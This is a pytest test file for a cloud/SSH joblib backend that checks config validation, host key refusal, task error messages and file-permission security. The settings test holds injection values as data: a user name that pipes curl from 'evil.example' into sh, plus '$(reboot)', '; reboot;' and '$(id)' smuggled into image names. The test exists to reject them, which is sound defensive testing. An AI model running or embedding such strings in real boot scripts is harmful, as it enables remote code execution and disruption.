"""Bad input gets a clear error naming what to fix, and loses nothing; security basics."""

from __future__ import annotations

import os
import pickle
import stat
import subprocess
import sys
import threading
from pathlib import Path

import psutil
import pytest
from hostenv import python_with_sitecustomize
from joblib import Parallel, delayed, parallel_backend

from joblib_cloud import CloudBackend
from joblib_cloud.config import resolve_config
from joblib_cloud.errors import (
    HostKeyError,
    RemoteTaskError,
    ResultTooLargeError,
    TaskPicklingError,
    TerminatedWorkerError,
)

# ----------------------------------------------------------------------- settings


@pytest.mark.parametrize(("settings", "named"), [
    ({"provider": "local", "n": 0}, "n="),
    ({"provider": "local", "n": -3}, "n="),
    ({"provider": "gcp"}, "provider="),
    ({"provider": "ssh", "hosts": ["me@host:99999"]}, "hosts"),
    ({"provider": "ssh", "hosts": ["me@@host"]}, "hosts"),
    ({"provider": "ssh"}, "hosts"),
    ({"provider": "aws", "instance": "Q7"}, "instance="),
    ({"provider": "local", "workers_per_host": 0}, "workers_per_host="),
    ({"provider": "local", "heartbeat_timeout": -1}, "heartbeat_timeout="),
    ({"provider": "local", "cache_size": "lots"}, "cache_size="),
    # nan compares false with everything: an idle_timeout=nan would never stop a machine.
    ({"provider": "aws", "idle_timeout": float("nan")}, "idle_timeout="),
    ({"provider": "aws", "budget": "nan"}, "budget="),
    ({"provider": "aws", "max_lifetime": "inf"}, "max_lifetime="),
    ({"provider": "local", "cache_size": float("inf")}, "cache_size="),
    # Both reach the boot script.
    ({"provider": "aws", "user": "ec2-user; curl evil.example | sh"}, "user="),
    ({"provider": "aws", "user": "$(reboot)"}, "user="),
    ({"provider": "aws", "image": "python:3.11\"; reboot; \""}, "image="),
    ({"provider": "aws", "image": "python:3.11 $(id)"}, "image="),
])
def test_bad_setting_is_a_value_error_naming_it(settings, named):
    with pytest.raises(ValueError, match=named):
        CloudBackend(**settings)


def test_non_finite_numbers_say_so(monkeypatch):
    monkeypatch.setenv("JOBLIB_CLOUD_IDLE_TIMEOUT", "nan")
    with pytest.raises(ValueError, match="JOBLIB_CLOUD_IDLE_TIMEOUT: expected a finite number"):
        resolve_config(provider="aws")


def test_valid_users_and_images_are_kept():
    config = resolve_config(provider="aws", user="ec2-user", image="ghcr.io/me/model:1.2")
    assert (config.user, config.image) == ("ec2-user", "ghcr.io/me/model:1.2")


def test_a_home_directory_opened_to_others_is_made_private_again(monkeypatch, tmp_path):
    home = tmp_path / "state"
    home.mkdir(mode=0o755)
    home.chmod(0o755)
    monkeypatch.setenv("JOBLIB_CLOUD_HOME", str(home))
    resolve_config(provider="local")  # reads the config file there
    assert stat.S_IMODE(home.stat().st_mode) == 0o700


def test_unknown_instance_alias_lists_valid_ones():
    with pytest.raises(ValueError) as info:
        resolve_config(provider="aws", instance="C17")
    assert "C16" in str(info.value) and "M4" in str(info.value) and "R8" in str(info.value)


@pytest.mark.parametrize(("var", "value"), [
    ("JOBLIB_CLOUD_N", "many"), ("JOBLIB_CLOUD_SPOT", "maybe"),
    ("JOBLIB_CLOUD_PROVIDER", "azure"), ("JOBLIB_CLOUD_IDLE_TIMEOUT", "soon"),
])
def test_bad_environment_variable_names_the_variable(monkeypatch, var, value):
    monkeypatch.setenv(var, value)
    with pytest.raises(ValueError, match=f"environment variable {var}"):
        resolve_config(provider="local") if var != "JOBLIB_CLOUD_PROVIDER" else \
            resolve_config()


def test_precedence_keyword_env_file(monkeypatch, tmp_path):
    config_file = tmp_path / "config.toml"
    config_file.write_text('n = 3\ncluster = "from-file"\nworkers_per_host = 5\n')
    monkeypatch.setenv("JOBLIB_CLOUD_CONFIG", str(config_file))
    monkeypatch.setenv("JOBLIB_CLOUD_N", "4")
    config = resolve_config(provider="local", workers_per_host=2)
    assert (config.n, config.cluster, config.workers_per_host) == (4, "from-file", 2)


def test_unknown_setting_in_config_file(monkeypatch, tmp_path):
    config_file = tmp_path / "config.toml"
    config_file.write_text("nodes = 3\n")
    monkeypatch.setenv("JOBLIB_CLOUD_CONFIG", str(config_file))
    with pytest.raises(ValueError, match="unknown setting.*nodes"):
        resolve_config(provider="local")


def test_hosts_from_comma_separated_environment(monkeypatch, fleet):
    monkeypatch.setenv("JOBLIB_CLOUD_PROVIDER", "ssh")
    monkeypatch.setenv("JOBLIB_CLOUD_HOSTS", ",".join(h.spec for h in fleet.hosts))
    monkeypatch.setenv("JOBLIB_CLOUD_SSH_KEY", str(fleet.client_key))
    monkeypatch.setenv("JOBLIB_CLOUD_KNOWN_HOSTS", str(fleet.known_hosts))
    monkeypatch.setenv("JOBLIB_CLOUD_PYTHON", sys.executable)
    monkeypatch.setenv("JOBLIB_CLOUD_WORKERS_PER_HOST", "1")
    with parallel_backend("cloud"):  # nothing but the environment, as in CI
        assert Parallel()(delayed(abs)(-i) for i in range(6)) == list(range(6))
        import joblib

        assert joblib.effective_n_jobs() == 3


# ----------------------------------------------------------------------- host keys


def test_rekeyed_host_is_refused_with_fingerprint(fresh_fleet, tmp_path):
    host = fresh_fleet.hosts[0]
    other = tmp_path / "other_key"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(other)],
                   check=True)
    wrong = tmp_path / "known_hosts"
    wrong.write_text(f"[{host.address}]:{host.port} {Path(str(other) + '.pub').read_text()}")
    with pytest.raises(HostKeyError) as info:
        with parallel_backend("cloud", **fresh_fleet.kwargs(hosts=[host],
                                                            known_hosts=str(wrong))):
            Parallel()(delayed(abs)(1) for _ in range(1))
    message = str(info.value)
    assert "MISMATCH" in message and message.count("SHA256:") == 2
    assert "ssh-keygen -R" in message and host.spec in message


def test_unknown_host_key_is_refused_not_accepted(fresh_fleet, tmp_path):
    empty = tmp_path / "known_hosts"
    empty.write_text("")
    host = fresh_fleet.hosts[1]
    with pytest.raises(HostKeyError, match="unknown host key.*SHA256:.*ssh-keyscan"):
        with parallel_backend("cloud", **fresh_fleet.kwargs(hosts=[host],
                                                            known_hosts=str(empty))):
            Parallel()(delayed(abs)(1) for _ in range(1))
    assert empty.read_text() == ""  # never written behind the user's back


# ----------------------------------------------------------------------- tasks


def _identity(x):
    return x


def test_unpicklable_argument_names_the_task(cloud_kwargs):
    with parallel_backend("cloud", **cloud_kwargs):
        with pytest.raises(pickle.PicklingError) as info:
            Parallel()(delayed(_identity)(threading.Lock()) for _ in range(2))
        assert isinstance(info.value, TaskPicklingError)
        assert "_identity" in str(info.value) and "lock" in str(info.value)
        assert Parallel()(delayed(_identity)(i) for i in range(3)) == [0, 1, 2]


def test_module_not_importable_on_host_names_the_module(fleet, tmp_path, monkeypatch):
    # A module importable here only through sys.path (not from the working directory,
    # whose modules are sent by value): the host cannot import it.
    pkg = tmp_path / "elsewhere"
    pkg.mkdir()
    (pkg / "only_here_mod.py").write_text("def triple(x):\n    return 3 * x\n")
    monkeypatch.syspath_prepend(str(pkg))
    import only_here_mod

    with parallel_backend("cloud", **fleet.kwargs(workers_per_host=1)):
        with pytest.raises(ModuleNotFoundError) as info:
            Parallel()(delayed(only_here_mod.triple)(i) for i in range(2))
    assert "only_here_mod" in str(info.value) and "127.0.0." in str(info.value)
    sys.modules.pop("only_here_mod", None)


class Unpicklable(Exception):
    def __init__(self, msg):
        super().__init__(msg)
        self.lock = threading.Lock()


def _raise_unpicklable(i):
    raise Unpicklable(f"cannot travel {i}")


def test_exception_that_cannot_be_pickled(cloud_kwargs):
    with parallel_backend("cloud", **cloud_kwargs):
        with pytest.raises(RemoteTaskError) as info:
            Parallel()(delayed(_raise_unpicklable)(i) for i in range(1))
        assert "Unpicklable" in str(info.value) and "cannot travel 0" in str(info.value)
        assert "_raise_unpicklable" in str(info.value.__cause__)
        assert Parallel()(delayed(_identity)(i) for i in range(3)) == [0, 1, 2]


def _big_result(nbytes):
    return b"x" * nbytes


def test_result_over_the_limit_is_a_clear_error(fleet):
    kwargs = fleet.kwargs(workers_per_host=1, max_result_size="8M", cluster="small-results")
    with parallel_backend("cloud", **kwargs):
        with pytest.raises(ResultTooLargeError, match="max_result_size"):
            Parallel()(delayed(_big_result)(20 * 2**20) for _ in range(1))
        assert Parallel()(delayed(_big_result)(10) for _ in range(2)) == [b"x" * 10] * 2


@pytest.mark.slow
def test_one_gigabyte_result_default_limit(fleet):
    with parallel_backend("cloud", **fleet.kwargs(workers_per_host=1, cluster="huge")):
        with pytest.raises(ResultTooLargeError):
            Parallel()(delayed(_big_result)(2**30) for _ in range(1))
        assert Parallel()(delayed(_identity)(i) for i in range(2)) == [0, 1]


# ----------------------------------------------------------------------- security


def test_agent_listens_on_no_network_port(fleet):
    kwargs = fleet.kwargs(workers_per_host=2, cluster="listen-check")
    with parallel_backend("cloud", **kwargs):
        Parallel()(delayed(_identity)(i) for i in range(4))
        procs = [p for host in fleet.hosts for agent in host.agent_processes()
                 for p in [agent, *agent.children(recursive=True)]]
        assert len(procs) >= 3 * 3  # an agent and at least two workers per host
        listening = []
        for proc in procs:
            try:
                conns = proc.net_connections(kind="inet")
            except psutil.NoSuchProcess:
                continue
            listening += [c for c in conns if c.status == psutil.CONN_LISTEN]
        assert listening == []


def test_local_state_files_are_private(fleet):
    with parallel_backend("cloud", **fleet.kwargs(workers_per_host=1, cluster="perm")):
        Parallel()(delayed(_identity)(i) for i in range(2))
    for host in fleet.hosts:
        for path in (host.home / "agent").iterdir():
            assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
    home = Path(os.environ["JOBLIB_CLOUD_HOME"])
    for path in home.rglob("*"):
        mode = stat.S_IMODE(path.stat().st_mode)
        assert mode & 0o077 == 0, f"{path} is readable by others ({oct(mode)})"


def test_workers_that_cannot_start_fail_the_call_not_hang(tmp_path):
    """A host whose worker processes die while starting (a broken site-packages, say)
    fails the call with the reason instead of waiting for workers forever."""
    # Only the agent's worker processes carry JOBLIB_CLOUD_SYS_PATH; the agent starts fine.
    wrapper = python_with_sitecustomize(
        tmp_path, "python-with-broken-workers",
        "import os\nif 'JOBLIB_CLOUD_SYS_PATH' in os.environ:\n    os._exit(7)\n")
    kwargs = {"provider": "local", "n": 1, "workers_per_host": 2, "python": str(wrapper),
              "cluster": "broken-workers"}
    with parallel_backend("cloud", **kwargs):
        with pytest.raises(TerminatedWorkerError) as info:
            Parallel(n_jobs=-1, timeout=60)(delayed(abs)(i) for i in range(4))
    message = str(info.value)
    assert "cannot start worker processes" in message and "exited with code 7" in message


def test_worker_that_dies_while_starting_is_replaced_and_the_call_succeeds(tmp_path):
    """One worker process dies before it is ready (the first to start, once, a second in):
    it is replaced, no batch is lost, and the call succeeds."""
    marker = tmp_path / "first-worker-died"
    wrapper = python_with_sitecustomize(
        tmp_path, "python-with-one-failing-worker",
        "import os\n"
        "if 'JOBLIB_CLOUD_SYS_PATH' in os.environ:\n"
        "    try:\n"
        f"        os.close(os.open({str(marker)!r}, os.O_CREAT | os.O_EXCL))\n"
        "    except FileExistsError:\n"
        "        pass\n"
        "    else:  # dies slowly: after batches are waiting for workers\n"
        "        import time; time.sleep(1.0); os._exit(7)\n")
    kwargs = {"provider": "local", "n": 1, "workers_per_host": 2, "python": str(wrapper),
              "cluster": "one-failing-worker"}
    with parallel_backend("cloud", **kwargs):
        assert Parallel(n_jobs=-1, batch_size=1)(
            delayed(abs)(-i) for i in range(8)) == list(range(8))
    assert marker.exists()
